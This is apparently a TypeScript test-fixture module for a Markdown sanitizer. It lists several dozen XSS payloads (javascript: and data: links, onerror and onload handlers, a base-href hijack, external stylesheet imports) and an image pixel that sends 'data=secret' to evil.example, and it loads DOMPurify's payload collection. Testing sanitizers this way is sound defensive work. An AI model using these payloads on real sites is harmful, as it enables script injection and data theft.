import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import * as z from "zod";

const Collection = z.array(z.object({ title: z.string().optional(), payload: z.string() }));

/** Attacks in Markdown's own words, which a collection of HTML ones lacks. */
const OWN: readonly string[] = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](%6aavascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](javascript:alert(1) 'title')",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](blob:http://127.0.0.1/1)",
  "[x](file:///etc/passwd)",
  '[x](https://a.example" onclick="alert(1))',
  "[x](https://bank.example@evil.example/)",
  "[x](//evil.example/)",
  "[x](/\\evil.example/)",
  "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
  "![x](https://evil.example/pixel.png?data=secret)",
  "![x](//evil.example/pixel.png)",
  "![x](/\\evil.example/pixel.png)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x" onerror="alert(1)](/missing.png)',
  '![x](/missing.png" onerror="alert(1))',
  "<https://evil.example/><img src=x onerror=alert(1)>",
  "https://evil.example/<script>alert(1)</script>",
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <svg onload=alert(1)> | ![x](https://evil.example/a.png) |",
  "- [x] <iframe src=https://evil.example></iframe>",
  "$<img src=x onerror=alert(1)>$ \\(<img src=x onerror=alert(1)>\\)",
  "<br onload=alert(1)> <br/onclick=alert(1)>",
  "# <base href=https://evil.example/>\n\n[x](relative) ![x](relative.png)",
  "[x]: javascript:alert(1)\n\n[x] [x][x]",
  "<style>@import 'https://evil.example/a.css'</style><link rel=stylesheet href=https://evil.example/a.css>",
  "\u202ehttps://evil.example/\u202c [\u202e](https://evil.example)",
];

/**
 * The project's own attacks and, where `FRONTDESK_ATTACKS` (default `../shared/attacks`) is, DOMPurify's collection.
 */
export function attackPayloads(): readonly string[] {
  const folder = process.env["FRONTDESK_ATTACKS"] ?? fileURLToPath(new URL("../../../../shared/attacks", import.meta.url));
  const path = `${folder}/xss-dompurify.json`;
  if (!existsSync(path)) {
    console.log(`No attack collection at ${path} (set FRONTDESK_ATTACKS): only the project's own ${OWN.length} are tried.`);
    return OWN;
  }
  const collected = Collection.parse(JSON.parse(readFileSync(path, "utf8")));
  return [...OWN, ...collected.map(({ payload }) => payload)];
}
